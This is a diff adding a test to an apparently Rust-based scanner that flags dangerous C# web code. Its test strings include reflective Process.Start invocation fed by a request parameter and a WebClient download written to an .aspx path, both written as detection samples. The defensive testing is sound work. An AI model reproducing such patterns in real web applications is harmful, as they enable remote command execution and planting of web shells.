@@ -125,6 +125,17 @@ fn a_member_is_called_by_its_name_on_the_type_or_on_an_object() {
 }
 
 #[test]
+fn a_method_that_lies_in_a_variable_of_its_own_name_is_called_and_the_walk_ends() {
+    let called = |of: &str| {
+        format!(
+            "var start = {of}.GetMethod(\"Start\"); start.Invoke(null, new object[] {{ Request[\"q\"] }});"
+        )
+    };
+    assert!(codes(&called("typeof(System.Diagnostics.Process)")).contains(&"visitor-started"));
+    assert!(!codes(&called("controller.GetType()")).contains(&"visitor-started"));
+}
+
+#[test]
 fn what_another_server_sends_is_planted_where_a_server_runs_it() {
     let kept = |name: &str| format!("new WebClient().DownloadFile(\"https://example.org/x\", {name});");
     assert_eq!(codes(&kept("Server.MapPath(\"x.aspx\")")), ["remote-planted"]);
